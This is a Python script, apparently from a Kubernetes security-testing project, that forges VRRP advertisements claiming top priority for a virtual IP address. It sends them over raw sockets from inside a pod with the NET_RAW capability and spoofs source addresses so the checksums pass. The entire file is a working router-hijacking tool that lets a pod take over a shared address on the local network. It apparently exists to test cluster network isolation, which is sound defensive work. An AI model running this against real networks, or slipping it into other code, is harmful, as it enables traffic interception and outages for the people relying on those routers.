# Copyright: (c) the hardway.kubernetes authors
# GNU General Public License v3.0+ (see LICENSE or https://www.gnu.org/licenses/gpl-3.0.txt)
# SPDX-License-Identifier: GPL-3.0-or-later
"""Sends forged VRRP advertisements: somebody of the highest priority says that it has the virtual address.

  vrrp.py SECONDS ROUTER ADDRESS TTL SOURCE SUMMED_AS TARGET...

SOURCE is what the packet says, SUMMED_AS the source that its checksum is made for: a pod's packet has the node's when it has left the node.
It runs on machines by itself, in the network namespace of a pod, with a pod's NET_RAW, and prints how many were sent.
"""

from __future__ import annotations

import socket
import struct
import sys
import time

PROTOCOL = 112
OWNER = 255
INTERVAL = 0.1


def checksum(data: bytes) -> int:
    """The Internet's checksum (RFC 1071)."""
    padded = data + b"\0" * (len(data) % 2)
    total = sum(struct.unpack(f"!{len(padded) // 2}H", padded))
    while total >> 16:
        total = (total & 0xFFFF) + (total >> 16)
    return ~total & 0xFFFF


def advertisement(router: int, address: str, source: str, target: str, centiseconds: int = 25) -> bytes:
    """A VRRP packet of version 3 (RFC 5798, 5.2) whose checksum covers the addresses of the packet around it."""
    pseudo = socket.inet_aton(source) + socket.inet_aton(target)

    def packed(total: int) -> bytes:
        return struct.pack("!BBBBHH", 3 << 4 | 1, router, OWNER, 1, centiseconds, total) + socket.inet_aton(address)

    body = packed(0)
    return packed(checksum(pseudo + struct.pack("!BBH", 0, PROTOCOL, len(body)) + body))


def packet(source: str, target: str, ttl: int, body: bytes) -> bytes:
    """An IPv4 packet; the kernel fills in its length and its checksum (raw(7))."""
    header = struct.pack("!BBHHHBBH", 4 << 4 | 5, 0xC0, 20 + len(body), 0, 0, ttl, PROTOCOL, 0)
    return header + socket.inet_aton(source) + socket.inet_aton(target) + body


def main(arguments: list[str]) -> None:
    seconds, router, address, ttl, source, summed_as, *targets = arguments
    sent = refused = 0
    with socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW) as channel:
        until = time.monotonic() + float(seconds)
        while time.monotonic() < until:
            for target in targets:
                body = advertisement(int(router), address, summed_as, target)
                try:
                    channel.sendto(packet(source, target, int(ttl), body), (target, 0))
                    sent += 1
                except OSError:
                    refused += 1
            time.sleep(INTERVAL)
    print(sent, refused)


if __name__ == "__main__":
    main(sys.argv[1:])
